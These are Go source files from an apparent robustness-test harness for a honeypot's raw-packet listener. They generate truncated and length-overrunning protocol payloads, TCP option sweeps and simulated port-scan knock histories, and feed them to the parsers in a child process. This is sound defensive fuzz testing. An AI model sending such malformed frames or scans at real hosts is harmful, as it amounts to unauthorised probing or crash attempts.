	pf, pe := probeFrame(700000 + id)
	in.Frames = append(in.Frames, hx.B(pf))
	in.Probe = pe
	return in
}

// the smallest complete exchange: handshake, data read by the default reader (which then
// closes), a second data segment for the closed reader, FIN
func corpusConn(mode string, id int) HistIn {
	in := HistIn{Mode: mode, Child: true, SettleMs: 20, Arp: [][4]byte{peerArp, gwOK}, Note: "corpus:conn data after the reader returned"}
	g := &connGen{in: &in}
	g.add(ipFrame(6, peerArp, ipMe, tcpSeg(2500, 4000, 100, 0, 5, fSYN, nil)), nil)
	g.add(ipFrame(6, peerArp, ipMe, tcpSeg(2500, 4000, 101, 0, 5, fACK, nil)), &Step{SetAck: true, Poll: true, AckRel: 2})
	g.add(ipFrame(6, peerArp, ipMe, tcpSeg(2500, 4000, 101, 0, 5, fACK|fPSH, []byte("hello"))), &Step{SetAck: true, AckRel: 2, WaitMs: 5})
	g.add(ipFrame(6, peerArp, ipMe, tcpSeg(2500, 4000, 106, 0, 5, fACK|fPSH, []byte("again"))), &Step{SetAck: true, AckRel: 3, WaitMs: 30})
	g.add(ipFrame(6, peerArp, ipMe, tcpSeg(2500, 4000, 111, 0, 5, fACK|fFIN, nil)), &Step{SetAck: true, AckRel: 3})
	pf, pe := probeFrame(600000 + id)
	in.Frames = append(in.Frames, hx.B(pf))
	in.Probe = pe
	return in
}
