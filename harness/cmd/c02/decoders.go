// decoder and knock-detector histories (always run in a child process: a panic in a
// goroutine without an effective recover terminates the process, which must not be
// the harness).
//
//   decoder histories: payloads for every port that has a protocol decoder
//     UDP 53 (DNS, gopacket), 123 (NTP), 161/162 (SNMP), 1900 (SSDP), 5060 (SIP) and, for
//     comparison, undecoded ports (69, 4000);
//     TCP 23, 80, 139, 443, 445, 1433, 6379, 9200 after a completed handshake;
//     each payload is a valid sample cut at every (UDP) / sampled (TCP) cut point, or a
//     sample whose counters / length fields point beyond the buffer.
//   scan histories: one peer knocking on n distinct ports (n around the boundaries 1,
//     1023, 1024, 1025, 5000; 65535 in the thorough tier) per protocol, then silence until
//     the knock detector's report tick has fired, then the probe.
package main

import (
	"fmt"

	"verif/harness/hx"
)

// ---- valid samples

func dnsName(labels ...string) []byte {
	var b []byte
	for _, l := range labels {
		b = append(b, byte(len(l)))
		b = append(b, l...)
	}
	return append(b, 0)
}

func dnsMsg(id int, flags int, qd, an, ns, ar int, body []byte) []byte {
	b := append(be16(id), be16(flags)...)
	b = append(b, be16(qd)...)
	b = append(b, be16(an)...)
	b = append(b, be16(ns)...)
	b = append(b, be16(ar)...)
	return append(b, body...)
}

func dnsRR(name []byte, typ, class int, ttl uint32, rdata []byte) []byte {
	b := append([]byte{}, name...)
	b = append(b, be16(typ)...)
	b = append(b, be16(class)...)
	b = append(b, be32(ttl)...)
	b = append(b, be16(len(rdata))...)
	return append(b, rdata...)
}

func dnsSamples() [][]byte {
	q := append(dnsName("example", "com"), 0, 1, 0, 1)
	ptr := []byte{0xc0, 12}
	a := dnsRR(ptr, 1, 1, 300, []byte{93, 184, 216, 34})
	cname := dnsRR(ptr, 5, 1, 300, []byte{3, 'w', 'w', 'w', 0xc0, 12})
	mx := dnsRR(ptr, 15, 1, 300, append([]byte{0, 10}, dnsName("mail", "example", "com")...))
	txt := dnsRR(ptr, 16, 1, 60, append([]byte{5}, "hello"...))
	soa := dnsRR(ptr, 6, 1, 60, append(append(dnsName("ns"), dnsName("root")...), make([]byte, 20)...))
	opt := dnsRR([]byte{0}, 41, 4096, 0, nil)
	return [][]byte{
		dnsMsg(0x1234, 0x0100, 1, 0, 0, 0, q),
		dnsMsg(0x1234, 0x8180, 1, 1, 0, 0, append(append([]byte{}, q...), a...)),
		dnsMsg(0x1234, 0x8180, 1, 2, 1, 1, append(append(append(append(append([]byte{}, q...), cname...), a...), soa...), opt...)),
		dnsMsg(0x1234, 0x8180, 1, 2, 0, 0, append(append(append([]byte{}, q...), mx...), txt...)),
		dnsMsg(0x1234, 0x0100, 0, 2, 1, 0, append(append(append([]byte{}, a...), a...), a...)), // records without a question
	}
}

func ntpSample() []byte {
	b := make([]byte, 48)
	b[0] = 0x23 // LI 0, VN 4, mode 3
	for i := 40; i < 48; i++ {
		b[i] = byte(i)
	}
	return b
}

func snmpSample() []byte {
	// SEQUENCE { version 0, community "public", GetRequest { id, 0, 0, SEQUENCE { SEQUENCE { OID 1.3.6.1.2.1.1.1.0, NULL } } } }
	return []byte{0x30, 0x26, 0x02, 0x01, 0x00, 0x04, 0x06, 'p', 'u', 'b', 'l', 'i', 'c', 0xa0, 0x19, 0x02, 0x01, 0x26, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00,
		0x30, 0x0e, 0x30, 0x0c, 0x06, 0x08, 0x2b, 0x06, 0x01, 0x02, 0x01, 0x01, 0x01, 0x00, 0x05, 0x00}
}

var ssdpSample = []byte("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n")
var sipSample = []byte("OPTIONS sip:100@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP 10.0.0.5:5060;branch=z9hG4bK1\r\nFrom: <sip:a@b>;tag=1\r\nTo: <sip:100@127.0.0.1>\r\nCall-ID: 1@b\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n")

type udpDecoderCase struct {
	port    int
	payload []byte
}

// udpDecoderPayloads: every cut point of every sample + counters / length fields beyond the buffer
func udpDecoderPayloads(r *hx.Rand, tier string) []udpDecoderCase {
	var out []udpDecoderCase
	add := func(port int, p []byte) { out = append(out, udpDecoderCase{port, append([]byte(nil), p...)}) }
	cuts := func(port int, s []byte, step int) {
		for n := 0; n <= len(s); n += step {
			add(port, s[:n])
		}
		add(port, s)
	}
	for _, s := range dnsSamples() {
		cuts(53, s, 1)
		// counters larger than what the body holds, on the whole and on truncated bodies
		for _, cnt := range []int{1, 2, 3, 255, 65535} {
			for field := 4; field <= 10; field += 2 {
				m := append([]byte(nil), s...)
				m[field], m[field+1] = byte(cnt>>8), byte(cnt)
				add(53, m)
				for _, n := range []int{12, 13, 17, len(m) / 2, len(m) - 1, len(m) - 3} {
					if n >= 12 && n <= len(m) {
						add(53, m[:n])
					}
				}
			}
		}
		// RDLENGTH / label length / compression pointer beyond the buffer
		for i := 12; i < len(s); i++ {
			if r.Chance(1, 3) {
				m := append([]byte(nil), s...)
				m[i] = byte(r.PickInt([]int{0xff, 0xc0, 0x3f, 0x40, 0x80}))
				add(53, m)
			}
		}
	}
	add(53, []byte{0xc9, 0x98, 0x49, 0xf4, 0, 0, 0, 2, 0, 1, 0, 0, 3, 0x4b, 0xbb, 0xc0, 0, 0x61, 0, 0x1f, 0x35, 0x16}) // corpus: truncated record behind counters 2/1
	cuts(123, ntpSample(), 1)
	for _, b0 := range []int{0x16, 0x17, 0x1e, 0xff, 0x00} { // control / private modes
		m := ntpSample()
		m[0] = byte(b0)
		cuts(123, m, 7)
	}
	for _, port := range []int{161, 162} {
		s := snmpSample()
		cuts(port, s, 1)
		for i := 0; i < len(s); i++ { // every length octet position: long form pointing far beyond
			for _, l := range [][]byte{{0x82, 0xff, 0xff}, {0x84, 0x7f, 0xff, 0xff, 0xff}, {0x80}, {0x7f}} {
				if s[i] == 0x30 || s[i] == 0x02 || s[i] == 0x04 || s[i] == 0xa0 || s[i] == 0x06 {
					m := append(append(append([]byte(nil), s[:i+1]...), l...), s[i+2:]...)
					add(port, m)
				}
			}
		}
		if port == 162 { // a v1 trap PDU
			t := append([]byte(nil), s...)
			t[13] = 0xa4
			cuts(port, t, 3)
		}
	}
	cuts(1900, ssdpSample, 5)
	cuts(5060, sipSample, 7)
	add(5060, []byte("INVITE sip:a SIP/2.0\r\nContent-Length: 99999\r\n\r\nx"))
	add(5060, []byte("SIP/2.0 200 OK\r\nCSeq:\r\n\r\n"))
	add(1900, []byte("NOTIFY * HTTP/1.1\r\nNT"))
	for _, port := range []int{69, 4000} { // no decoder: default path
		add(port, []byte{0, 1, 'f', 0, 'o', 'c', 't', 'e', 't', 0})
		add(port, nil)
	}
	nrand := 60
	if tier != "quick" {
		nrand = 1500
	}
	for i := 0; i < nrand; i++ { // random bodies with small counters (reaches the record decoders)
		m := r.Bytes(r.Range(12, 60))
		for f := 4; f <= 10; f += 2 {
			m[f], m[f+1] = 0, byte(r.Intn(3))
		}
		add(53, m)
		add(r.PickInt([]int{123, 161, 162, 1900, 5060}), r.Bytes(r.Range(0, 80)))
	}
	return out
}

// decoderHists packs the UDP decoder payloads into histories of at most batch frames
func udpDecoderHists(r *hx.Rand, tier string, batch int) []HistIn {
	ps := udpDecoderPayloads(r, tier)
	var out []HistIn
	for lo := 0; lo < len(ps); lo += batch {
		hi := lo + batch
		if hi > len(ps) {
			hi = len(ps)
		}
		mode := "loop"
		if (lo/batch)%3 == 2 {
			mode = "inject"
		}
		in := HistIn{Mode: mode, Child: true, SettleMs: 150, Arp: [][4]byte{peerArp, gwOK}, Note: "decoder-udp"}
		for i, p := range ps[lo:hi] {
			in.Frames = append(in.Frames, hx.B(ipFrame(17, peerArp, ipMe, udpSeg(20000+i, p.port, -1, p.payload))))
		}
		pf, pe := probeFrame(500000 + lo)
		in.Frames = append(in.Frames, hx.B(pf))
		in.Probe = pe
		out = append(out, in)
	}
	return out
}

// ---- TCP decoders: payload after a completed handshake

func tlsClientHello() []byte {
	body := []byte{0x03, 0x03}
	body = append(body, make([]byte, 32)...)           // random
	body = append(body, 0)                             // session id
	body = append(body, 0, 4, 0x13, 0x01, 0xc0, 0x2f)  // cipher suites
	body = append(body, 1, 0)                          // compression
	ext := []byte{0, 0, 0, 6, 0, 4, 0, 0, 1, 'a'}       // server_name
	ext = append(ext, 0, 10, 0, 4, 0, 2, 0, 29)         // supported_groups
	ext = append(ext, 0, 11, 0, 2, 1, 0)                // ec_point_formats
	body = append(body, be16(len(ext))...)
	body = append(body, ext...)
	hs := append([]byte{1, 0}, be16(len(body))...)
	hs = append(hs, body...)
	rec := append([]byte{0x16, 0x03, 0x01}, be16(len(hs))...)
	return append(rec, hs...)
}

func tcpDecoderSamples() map[int][][]byte {
	smb := append([]byte{0, 0, 0, 0x2f, 0xff, 'S', 'M', 'B', 0x72}, make([]byte, 0x2f-5)...)
	tds := []byte{0x12, 0x01, 0x00, 0x2f, 0, 0, 1, 0, 0, 0, 0x1a, 0, 6, 1, 0, 0x20, 0, 1, 2, 0, 0x21, 0, 1, 3, 0, 0x22, 0, 4, 4, 0, 0x26, 0, 1, 0xff,
		9, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}
	return map[int][][]byte{
		23:   {[]byte("root\r\npassword\r\n"), {0xff, 0xfd, 0x18, 0xff, 0xfa, 0x18, 0x01, 0xff, 0xf0}},
		80:   {[]byte("GET /index.html HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nhello"), []byte("POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n")},
		9200: {[]byte("GET /_search?q=* HTTP/1.1\r\nHost: a\r\n\r\n"), []byte("PUT /i/_doc/1 HTTP/1.0\r\nContent-Length: 99999999999999999999\r\n\r\n{}")},
		443:  {tlsClientHello()},
		139:  {smb, {0x81, 0, 0, 0x44}, {0, 0xff, 0xff, 0xff}},
		445:  {smb, {0, 0xff, 0xff, 0xff, 0xfe, 'S', 'M', 'B'}},
		1433: {tds},
		6379: {[]byte("*3\r\n$3\r\nSET\r\n$1\r\na\r\n$1\r\nb\r\n"), []byte("*999999999\r\n$999999999\r\n"), []byte("$-1\r\n*-5\r\n")},
		4000: {[]byte("plain")}, // no decoder: the default reader
	}
}

func tcpDecoderHists(r *hx.Rand, tier string) []HistIn {
	samples := tcpDecoderSamples()
	type pl struct {
		port int
		data []byte
	}
	var all []pl
	for _, port := range []int{23, 80, 139, 443, 445, 1433, 6379, 9200, 4000} {
		for _, s := range samples[port] {
			step := len(s)/6 + 1
			if tier != "quick" {
				step = 1
			}
			for n := 1; n < len(s); n += step {
				all = append(all, pl{port, s[:n]})
			}
			all = append(all, pl{port, s})
			// a length-like octet pushed beyond the buffer
			for k := 0; k < 2; k++ {
				m := append([]byte(nil), s...)
				m[r.Intn(len(m))] = byte(r.PickInt([]int{0xff, 0x7f, 0x80, 0}))
				all = append(all, pl{port, m})
			}
		}
	}
	var out []HistIn
	const perHist = 4
	for lo := 0; lo < len(all); lo += perHist {
		hi := lo + perHist
		if hi > len(all) {
			hi = len(all)
		}
		mode := "loop"
		if (lo/perHist)%2 == 1 {
			mode = "inject"
		}
		in := HistIn{Mode: mode, Child: true, SettleMs: 300, Arp: [][4]byte{peerArp, gwOK}, Note: "decoder-tcp"}
		g := &connGen{in: &in, r: r}
		for i, p := range all[lo:hi] {
			sport := 30000 + i
			isn := uint32(1000 * (i + 1))
			g.add(ipFrame(6, peerArp, ipMe, tcpSeg(sport, p.port, isn, 0, 5, fSYN, nil)), nil)
			g.add(ipFrame(6, peerArp, ipMe, tcpSeg(sport, p.port, isn+1, 0, 5, fACK, nil)), &Step{SetAck: true, Poll: true, AckRel: 2})
			// the payload in one or two pushed segments, then FIN so that a waiting decoder sees the end
			d := p.data
			if len(d) > 1 && i%2 == 1 {
				cut := len(d) / 2
				g.add(ipFrame(6, peerArp, ipMe, tcpSeg(sport, p.port, isn+1, 0, 5, fACK|fPSH, d[:cut])), &Step{SetAck: true, AckRel: 2, WaitMs: 2})
				g.add(ipFrame(6, peerArp, ipMe, tcpSeg(sport, p.port, isn+1+uint32(cut), 0, 5, fACK|fPSH, d[cut:])), &Step{SetAck: true, AckRel: 2, WaitMs: 2})
			} else {
				g.add(ipFrame(6, peerArp, ipMe, tcpSeg(sport, p.port, isn+1, 0, 5, fACK|fPSH, d)), &Step{SetAck: true, AckRel: 2, WaitMs: 2})
			}
			g.add(ipFrame(6, peerArp, ipMe, tcpSeg(sport, p.port, isn+1+uint32(len(d)), 0, 5, fACK|fFIN, nil)), &Step{SetAck: true, AckRel: 2, WaitMs: 5})
		}
		pf, pe := probeFrame(400000 + lo)
		in.Frames = append(in.Frames, hx.B(pf))
		in.Probe = pe
		out = append(out, in)
	}
	return out
}

// ---- port scans and the knock detector's report tick

var decoderUDPPorts = map[int]bool{53: true, 123: true, 1900: true, 5060: true, 161: true, 162: true}

// scanHist: peers[i] knocks on sizes[i] distinct ports with the given protocol; then silence
// until the detector has reported (QuietMs at least, a portscan event at most), then the probe.
func scanHist(proto string, sizes []int, id int) HistIn {
	in := HistIn{Mode: "inject", Child: true, Compact: true, QuietMs: 5600, Arp: [][4]byte{peerArp, gwOK},
		Routes: []RouteIn{{Mask: [4]byte{0, 0, 0, 0}, Gw: gwOK}}, Note: fmt.Sprintf("scan-%s %v distinct ports per peer", proto, sizes)}
	for pi, n := range sizes {
		peer := [4]byte{10, 20, byte(pi), 9}
		port := 1
		for k := 0; k < n; k++ {
			for port == 22 || decoderUDPPorts[port] {
				port++
			}
			if port > 65535 {
				break
			}
			if proto == "tcp" {
				in.Frames = append(in.Frames, hx.B(ipFrame(6, peer, ipMe, tcpSeg(40000, port, 1, 0, 5, fSYN, nil))))
			} else {
				in.Frames = append(in.Frames, hx.B(ipFrame(17, peer, ipMe, udpSeg(40000, port, -1, []byte("k")))))
			}
			port++
		}
	}
	pf, pe := probeFrame(300000 + id)
	in.Frames = append(in.Frames, hx.B(pf))
	in.Probe = pe
	return in
}
