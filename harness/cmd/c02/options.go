// TCP option areas that parse into MANY options.
//
// The option area holds 0..40 bytes (data offset 5..15); a one-byte option (Nop) makes
// one entry of hdr.Options per byte, so a header can carry every number of options from
// 0 to 40.  Ordinary traffic has 0..8, random bytes practically never more (kind 0 ends
// the walk, every other kind needs a consistent length byte).  This file enumerates the
// family where it is small and samples the mixes:
//
//   - k Nops for EVERY k = 0..40, followed by nothing / End-of-list (+ junk that must not
//     be walked) / MSS / an option that fits exactly / an option whose length overruns the
//     area by one - each at the matching data offset, with and without payload behind it;
//   - MSS, window scale, SACK-permitted, timestamps in front of / between / behind Nop runs;
//   - unknown kinds with every length 2..40, ending exactly at / one past the end of the area;
//   - sampled mixes of Nop runs and multi-byte options, cut at the area boundary.
//
// The same option areas go through the parser (part parse: the Options slice is compared
// entry by entry with the model's walk) and, as frames, through the real handlers and
// the real receive loop (part hist: child processes, then the probe).
package main

import (
	"fmt"

	"verif/harness/hx"
)

type optCase struct {
	area  []byte // option bytes, len%4 == 0, <= 40 (unless short)
	extra int    // payload bytes behind the header
	short int    // > 0: the segment ends this many bytes before the data offset
	fix   bool   // valid checksum
	flags int
	note  string
}

func nops(k int) []byte {
	b := make([]byte, k)
	for i := range b {
		b[i] = 1
	}
	return b
}

// pad fills the area up to the next multiple of four (or up to `to` bytes) with `with`
func padArea(a []byte, to int, with byte) []byte {
	for len(a)%4 != 0 || len(a) < to {
		a = append(a, with)
	}
	return a
}

func (c optCase) segment(r *hx.Rand, src, dst [4]byte) []byte {
	return c.segmentPorts(r, r.Range(1024, 60000), r.PickInt([]int{80, 4000, 8080, 443}), src, dst)
}

func (c optCase) segmentPorts(r *hx.Rand, sport, dport int, src, dst [4]byte) []byte {
	off := 5 + len(c.area)/4
	rest := append(append([]byte{}, c.area...), r.Bytes(c.extra)...)
	if c.short > 0 && c.short <= len(rest) {
		rest = rest[:len(rest)-c.short]
	}
	seg := tcpSeg(sport, dport, uint32(r.U64()), uint32(r.U64()), off, c.flags, rest)
	if c.fix {
		fixTCPChecksum(seg, src, dst)
	}
	return seg
}

var (
	optMSS  = []byte{2, 4, 5, 180}
	optWS   = []byte{3, 3, 7}
	optSACK = []byte{4, 2}
	optTS   = []byte{8, 10, 0, 0, 0, 1, 0, 0, 0, 0}
)

// optionFamily: the enumerated part (every tier) and the sampled mixes.
func optionFamily(r *hx.Rand, tier string) []optCase {
	var out []optCase
	n := 0
	add := func(area []byte, note string) {
		n++
		c := optCase{area: area, note: note, flags: fSYN, fix: n%2 == 0}
		if n%3 != 0 {
			c.extra = 1 + n%7 // a longer segment than the data offset
		}
		out = append(out, c)
	}
	for k := 0; k <= 40; k++ {
		// nothing behind the run: only whole words are a complete area; otherwise the rest of
		// the word is Nops too (counted) - and once as a segment that ends with the run,
		// before the data offset
		add(padArea(nops(k), 0, 1), "nops")
		if k%4 != 0 {
			out = append(out, optCase{area: padArea(nops(k), 0, 1), short: 4 - k%4, flags: fSYN, fix: k%2 == 0, note: "nops-segment-ends-before-offset"})
		}
		if k <= 39 {
			// End-of-list behind the run; what follows is padding whatever it is: zeros in the
			// smallest area, Nops / an MSS-looking option up to the 40th byte
			a := append(nops(k), 0)
			switch k % 3 {
			case 0:
				a = padArea(a, 0, 0)
			case 1:
				a = padArea(a, 40, 1)
			default:
				a = padArea(append(a, optMSS...), 0, 1)
				if len(a) > 40 {
					a = padArea(append(nops(k), 0), 0, 255)
				}
			}
			add(a, "nops+eol")
		}
		if k <= 36 {
			pad := byte(0)
			if k%2 == 1 {
				pad = 1 // Nops behind the multi-byte option as well
			}
			add(padArea(append(nops(k), optMSS...), 0, pad), "nops+mss")
		}
		if k <= 38 {
			// a kind+length option that ends exactly at the end of the area ...
			area := padArea(append(nops(k), 254, 2), 0, 9)
			area[k+1] = byte(len(area) - k)
			add(area, "nops+exact-fit")
			// ... and one whose length runs one byte past it
			area = append([]byte{}, area...)
			area[k+1] = byte(len(area) - k + 1)
			add(area, "nops+overrun")
		}
		if k <= 39 && k%4 == 3 {
			add(append(nops(k), byte(2+k)), "nops+lone-kind")
		}
	}
	// multi-byte options in front of the run, and between two runs
	for k := 0; k <= 36; k++ {
		first := [][]byte{optMSS, optWS, optSACK, optTS}[k%4]
		if len(first)+k > 40 {
			first = optMSS
		}
		add(padArea(append(append([]byte{}, first...), nops(k)...), 0, 0), "opt+nops")
	}
	for k := 0; k <= 30; k += 2 {
		j := r.Intn(k + 1)
		a := append(nops(j), optTS...)
		a = append(a, nops(k-j)...)
		add(padArea(a, 0, 1), "nops+ts+nops")
	}
	// twenty two-byte options, ten four-byte options, thirteen three-byte ones: full areas without any Nop
	var a2, a3, a4 []byte
	for i := 0; i < 20; i++ {
		a2 = append(a2, byte(30+i), 2)
	}
	for i := 0; i < 13; i++ {
		a3 = append(a3, byte(60+i), 3, byte(i))
	}
	for i := 0; i < 10; i++ {
		a4 = append(a4, byte(90+i), 4, byte(i), byte(i))
	}
	add(a2, "20x2")
	add(padArea(a3, 0, 1), "13x3+nop")
	add(a4, "10x4")
	// unknown kinds with every length 2..40 at the end of the smallest area that holds them
	// (Nops in front): exactly to the end / one past the end
	step := 1
	if tier == "quick" {
		step = 3
	}
	for l := 2; l <= 40; l += step {
		size := (l + 3) / 4 * 4
		lead := size - l
		a := append(nops(lead), byte(100+l), byte(l))
		a = padArea(a, size, byte(l))
		add(a, "len-exact")
		b := append([]byte{}, a...)
		b[lead+1] = byte(l + 1)
		add(b, "len-one-past")
		if l >= 3 {
			c := append([]byte{}, a...)
			c[lead+1] = byte(l - 1) // one byte is left behind the option: walked as a kind of its own
			add(c, "len-one-short")
		}
	}
	// sampled mixes
	nmix := 60
	switch tier {
	case "thorough":
		nmix = 1500
	case "search":
		nmix = 600
	}
	for i := 0; i < nmix; i++ {
		c := mixedOptions(r)
		out = append(out, c)
	}
	return out
}

// mixedOptions: Nop runs between multi-byte options, cut at the area boundary
func mixedOptions(r *hx.Rand) optCase {
	size := r.Range(1, 10) * 4
	if r.Chance(1, 2) {
		size = r.PickInt([]int{24, 28, 32, 36, 40, 40})
	}
	var a []byte
	for len(a) < size {
		switch r.Intn(12) {
		case 0, 1, 2, 3, 4:
			a = append(a, nops(r.Range(1, 14))...)
		case 5:
			a = append(a, optMSS...)
		case 6:
			a = append(a, optWS...)
		case 7:
			a = append(a, optSACK...)
		case 8:
			a = append(a, optTS...)
		case 9:
			l := r.Range(2, 12)
			a = append(a, byte(r.Range(5, 255)), byte(l))
			a = append(a, r.Bytes(l-2)...)
		case 10:
			blocks := r.Range(1, 4)
			a = append(a, 5, byte(2+8*blocks))
			a = append(a, r.Bytes(8*blocks)...)
		default:
			if r.Chance(1, 3) {
				a = append(a, 0)
			} else {
				a = append(a, byte(r.Range(2, 255)), byte(r.PickInt([]int{0, 1, 2, 3, 40, 41, 255})))
			}
		}
	}
	a = a[:size]
	c := optCase{area: a, flags: r.PickInt([]int{fSYN, fSYN, fSYN, fACK, fRST, 0, fSYN | fACK, fFIN | fACK, 63}), fix: r.Bool(), note: "mix"}
	if r.Bool() {
		c.extra = r.Range(1, 20)
	}
	return c
}

// optionHists: the same families as frames through the real handlers (injection, child
// process) and the real receive loop (child process); every history ends with the probe.
func optionHists(r *hx.Rand, tier string) []HistIn {
	fam := optionFamily(r, tier)
	var groups [][]optCase
	byNote := map[string][]optCase{}
	var order []string
	for _, c := range fam {
		if _, ok := byNote[c.note]; !ok {
			order = append(order, c.note)
		}
		byNote[c.note] = append(byNote[c.note], c)
	}
	// histories of up to 90 frames, the families kept together; the sampled mixes apart
	var cur []optCase
	flush := func() {
		if len(cur) > 0 {
			groups = append(groups, cur)
			cur = nil
		}
	}
	for _, note := range order {
		if note == "mix" {
			continue
		}
		for _, c := range byNote[note] {
			if len(cur) >= 90 {
				flush()
			}
			cur = append(cur, c)
		}
	}
	flush()
	for _, c := range byNote["mix"] {
		if len(cur) >= 90 {
			flush()
		}
		cur = append(cur, c)
	}
	flush()
	var out []HistIn
	sport := 20000
	for gi, g := range groups {
		mode := "loop"
		if gi%3 == 1 {
			mode = "inject"
		}
		var fs [][]byte
		for _, c := range g {
			sport++
			src, dst := peerArp, ipMe
			if c.note == "mix" {
				src = [][4]byte{peerArp, peerRoute, peerLost}[r.Intn(3)]
				if r.Chance(1, 6) {
					dst = [4]byte{192, 0, 2, 1} // any destination: the parser runs before isMe
				}
			}
			fs = append(fs, ipFrame(6, src, dst, c.segmentPorts(r, sport, 4000, src, dst)))
		}
		note := fmt.Sprintf("sweep-tcp-options %s .. %s (%d frames)", g[0].note, g[len(g)-1].note, len(g))
		out = append(out, sweepHist(mode, note, 300+gi, fs))
	}
	return out
}
