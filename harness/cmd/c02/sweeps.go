// systematic sweeps over the TYPE/CODE octets of every parsed header: ICMP type x length,
// IPv4 protocol number x short bodies, ethertype families.  A parser or handler that
// starts to read type-dependent fields meets every type with bodies around its guard.
package main

import (
	"fmt"

	"verif/harness/hx"
)

func icmpTypes(r *hx.Rand) []int {
	var ts []int
	for t := 0; t <= 18; t++ {
		ts = append(ts, t)
	}
	for t := 30; t <= 42; t++ {
		ts = append(ts, t)
	}
	for i := 0; i < 5; i++ {
		ts = append(ts, r.Range(43, 255))
	}
	return ts
}

func icmpLens(tier string) []int {
	if tier == "quick" {
		return []int{7, 8, 9, 12, 16, 19, 20, 28}
	}
	var ls []int
	for n := 0; n <= 28; n++ {
		ls = append(ls, n)
	}
	return ls
}

func icmpBody(r *hx.Rand, typ, n int) []byte {
	b := r.Bytes(n)
	if n > 0 {
		b[0] = byte(typ)
	}
	if n > 1 {
		b[1] = byte(r.PickInt([]int{0, 0, 1, 3, 15, 255}))
	}
	return b
}

// parse part: icmp.Parse on every type x length
func icmpParseSweep(r *hx.Rand, tier string) []ParseIn {
	var out []ParseIn
	for _, t := range icmpTypes(r) {
		for _, n := range icmpLens(tier) {
			out = append(out, ParseIn{Parser: pICMP, Data: hx.B(icmpBody(r, t, n)), Note: "icmp-type-length"})
		}
	}
	return out
}

func sweepHist(mode, note string, id int, frames [][]byte) HistIn {
	in := HistIn{Mode: mode, Child: true, SettleMs: 50, Arp: [][4]byte{peerArp, gwOK}, Note: note}
	for _, f := range frames {
		in.Frames = append(in.Frames, hx.B(f))
	}
	pf, pe := probeFrame(200000 + id)
	in.Frames = append(in.Frames, hx.B(pf))
	in.Probe = pe
	return in
}

// hist part: the same sweeps through the real handlers / the real receive loop
func sweepHists(r *hx.Rand, tier string) []HistIn {
	var out []HistIn
	id := 0
	next := func() int { id++; return id }
	// ICMP: every type, body lengths around the 8-byte guard (and 12/16/20: the longer fixed formats)
	for _, n := range []int{8, 12, 19, 20} {
		var fs [][]byte
		for _, t := range icmpTypes(r) {
			fs = append(fs, ipFrame(1, peerArp, ipMe, icmpBody(r, t, n)))
		}
		mode := "loop"
		if n == 12 {
			mode = "inject"
		}
		out = append(out, sweepHist(mode, fmt.Sprintf("sweep-icmp-types body %d", n), next(), fs))
	}
	// IPv4: every protocol number with a short body
	bodies := []int{0, 8}
	if tier != "quick" {
		bodies = []int{0, 1, 4, 8, 20, 40}
	}
	for _, n := range bodies {
		var fs [][]byte
		for p := 0; p <= 255; p++ {
			fs = append(fs, ipFrame(p, peerArp, ipMe, r.Bytes(n)))
		}
		out = append(out, sweepHist("loop", fmt.Sprintf("sweep-ip-protocols body %d", n), next(), fs))
	}
	// ethertype families: IPv4, ARP, RARP, IPv6, VLAN/QinQ, MPLS, PPPoE, LLDP, WoL, loopback,
	// 802.3 length values, extremes - each with an IPv4-looking, an ARP-looking and a short payload
	types := []int{0x0800, 0x0806, 0x8035, 0x86dd, 0x8100, 0x88a8, 0x9100, 0x8847, 0x8848, 0x8863, 0x8864, 0x88cc, 0x0842, 0x22f0, 0x9000,
		0x0000, 0x0001, 0x05dc, 0x05ff, 0x0600, 0x07ff, 0x0801, 0x08ff, 0xffff}
	ipLike := ipHeader(ipOpt{ihl: 5, totLen: -1, proto: 17, src: peerArp, dst: ipMe}, udpSeg(1, 4000, -1, []byte("e")))
	arpLike := make([]byte, 28)
	arpLike[4], arpLike[5] = 20, 20
	var fs [][]byte
	for _, t := range types {
		fs = append(fs, ethFrame(t, ipLike), ethFrame(t, arpLike), ethFrame(t, r.Bytes(r.Intn(6))))
	}
	out = append(out, sweepHist("loop", "sweep-ethertypes", next(), fs))
	return out
}
