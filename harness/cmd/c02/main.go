// C02 harness: the raw (canary) listener must survive every frame.
//
// part "parse": the exported header parsers (ethernet, ipv4, tcp, udp, icmp, arp) called
//   directly on field-boundary and random inputs; observed: ok / error / panic class
//   and the parsed field values.
// part "hist": frame histories against a real Canary built by the verif hook
//   (listener/canary/verif_hooks_linux.go):
//     mode "inject": every frame goes synchronously through the real
//       handleTCP/handleUDP/handleICMP (panics recovered here and recorded);
//     mode "loop": a child process (re-exec of this binary, -child <file>) runs the real
//       Start() receive loop; frames are written to the socketpair; the child either
//       reports back (alive, events seen) or dies (stderr classified by the function
//       names on the panic stack).
//   Every history ends with a well-formed UDP probe whose event must be seen.
package main

import (
	"bytes"
	"context"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime/debug"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/BurntSushi/toml"
	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener"
	"github.com/honeytrap/honeytrap/listener/canary"
	"github.com/honeytrap/honeytrap/listener/canary/arp"
	"github.com/honeytrap/honeytrap/listener/canary/ethernet"
	"github.com/honeytrap/honeytrap/listener/canary/icmp"
	"github.com/honeytrap/honeytrap/listener/canary/ipv4"
	"github.com/honeytrap/honeytrap/listener/canary/tcp"
	"github.com/honeytrap/honeytrap/listener/canary/udp"
	"verif/harness/hx"
)

// ---------------------------------------------------------------- panic classification

const (
	siteIPTotLen  = 1
	siteTCPShort  = 2
	siteTCPOpt    = 3
	siteNoARP     = 4
	siteTableFull = 5
	siteARP       = 6
	siteEth       = 7
	siteDecoder   = 12 // panic in a decoder / reader goroutine that was not recovered
	siteKnock     = 13 // panic in the knock detector goroutine
	siteICMP      = 14 // panic in icmp.Parse
	siteUDP       = 15 // panic in udp.Unmarshal
